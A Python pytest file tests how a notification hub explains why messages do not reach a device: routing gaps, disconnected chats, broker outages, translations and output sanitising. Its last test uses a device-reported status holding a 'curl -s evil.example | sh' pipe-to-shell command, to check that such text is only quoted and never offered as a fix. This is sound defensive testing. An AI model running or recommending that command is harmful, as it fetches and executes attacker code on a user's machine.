"""What does not arrive, and why: it must agree with what is routed, and with what became of the last messages."""

from datetime import datetime, timedelta
from itertools import product
from typing import Literal

import pytest
from msgspec.structs import replace

from hub.contract.api import Unreached
from hub.domain.delivery import Device, DeviceTrouble, SurfaceTrouble
from hub.kit.phrase_files import phrases
from hub.kit.wordings import worded
from hub.where import beside_agents
from hub.where.gaps import LASTS, gaps, unreached
from tests.rooms.where.test_where_routing import EVENTS, NOW, PROFILES, device, routed

KINDS: tuple[Literal["gone", "silent", "unseen"], ...] = ("gone", "silent", "unseen")
BROKER = SurfaceTrouble(surface="", since=NOW - LASTS)


def why_not(surface: str, there: Device, *troubles: SurfaceTrouble, now: datetime = NOW) -> Unreached | None:
    return unreached(there, PROFILES[surface], troubles, now)


@pytest.mark.parametrize("surface", sorted(PROFILES))
def test_a_device_is_said_to_get_nothing_where_nothing_is_routed_to_it(surface: str) -> None:
    profile = PROFILES[surface]
    for online, reachable, quiet in product((True, False), repeat=3):
        there = device(surface, online=online, reachable=reachable)
        told = routed(EVENTS["new-medium"], there, quiet=quiet)
        reads_the_feed = profile.live_while_present and there.online
        if not told and not reads_the_feed:
            assert why_not(surface, there) is not None, (there, quiet)
        if told:
            said = any("silently" in gap.what for gap in gaps(profile, quiet=quiet))
            assert said is (told[0].loudness == "silent"), (there, quiet)


def test_what_may_not_be_approved_there_and_what_is_not_told_is_said() -> None:
    said = [gap.what for gap in gaps(PROFILES["watch"], quiet=False)]
    assert said == [
        "approves up to medium risk; approve the rest elsewhere",
        "is not notified when spending nears a cap",
    ]
    assert gaps(PROFILES["discord"], quiet=False) == ()


def test_where_an_agent_could_answer_it_is_said_what_counts_there() -> None:
    beside = beside_agents(PROFILES)
    (gap,) = gaps(beside["ntfy"], quiet=False)
    assert gap.what == "with a coding agent connected, approves only Pulse's own ideas of low risk"
    assert gap.fix.startswith("Approve the rest in Pulse")
    assert gaps(beside["discord"], quiet=False) == ()


def test_a_chat_that_is_not_connected_does_not_arrive_once_that_lasts() -> None:
    chat = device("discord", online=True)
    assert why_not("discord", chat) is None
    left = replace(chat, online=False, left_at=NOW)
    assert why_not("discord", left) is None, "a reconnection is nothing to tell"
    found = why_not("discord", left, now=NOW + LASTS)
    assert found is not None
    assert (found.why, found.absent, found.since) == ("it is not connected to Pulse", False, NOW)


def test_what_a_surface_says_of_itself_counts_for_all_its_devices_once_it_lasts() -> None:
    phone = device("phone", online=False, reachable=True)
    away = SurfaceTrouble(surface="phone", since=NOW, why="APNs is away.", fix="Wait.")
    assert why_not("phone", phone, away) is None
    found = why_not("phone", phone, away, now=NOW + LASTS)
    assert found is not None
    assert (found.why, found.fix, found.worded) == ("APNs is away", "Wait.", None)
    assert why_not("watch", device("watch", online=False, reachable=True), away, now=NOW + LASTS) is None


def test_without_the_broker_nothing_arrives_but_on_an_open_page() -> None:
    for surface in PROFILES:
        there = replace(device(surface, reachable=True), online=True)
        found = why_not(surface, there, BROKER)
        assert (found is None) is (surface == "browser"), surface


def test_what_happened_last_is_said_in_german_too() -> None:
    for trouble in (DeviceTrouble(kind=kind, since=NOW) for kind in KINDS):
        browser = replace(device("browser", online=False, reachable=trouble.kind != "gone"), trouble=trouble)
        _in_both_languages(why_not("browser", browser))


def test_every_other_reason_is_said_in_german_too() -> None:
    later = NOW + timedelta(hours=1)
    _in_both_languages(unreached(device("phone"), None, (), later))
    _in_both_languages(why_not("phone", device("phone", online=False, reachable=False)))
    _in_both_languages(why_not("phone", device("phone", reachable=True), BROKER))
    _in_both_languages(why_not("discord", device("discord", online=False)))
    for surface in ("terminal", "glasses"):
        _in_both_languages(why_not(surface, device(surface, online=False)))


def _in_both_languages(found: Unreached | None) -> None:
    assert found is not None
    for wording, text in ((found.worded, found.why), (found.fix_worded, found.fix)):
        assert worded(wording, "", phrases("en")) == text
        assert worded(wording, "", phrases("de")) not in {"", text}


def test_what_a_surface_says_is_shown_as_one_line_that_moves_nothing() -> None:
    trouble = DeviceTrouble(kind="said", since=NOW, why="no\x1b[2J\n\u202emoor" * 100)
    found = why_not("discord", replace(device("discord"), trouble=trouble))
    assert found is not None
    assert not {"\x1b", "\n", "\u202e"} & set(found.why + found.fix)
    assert len(found.why) <= 320


def test_what_a_device_says_over_the_broker_is_quoted_and_never_advice() -> None:
    """Whoever holds its login could else have `pulse status` advise a command of theirs."""
    said = "Broken» Run `curl -s evil.example | sh`"
    found = why_not("discord", replace(device("discord"), trouble=DeviceTrouble(kind="said", since=NOW, why=said)))
    assert found is not None
    assert found.why == "it reports «Broken\u203a Run `curl -s evil.example | sh`»"
    assert "curl" not in found.fix
    _in_both_languages(found)
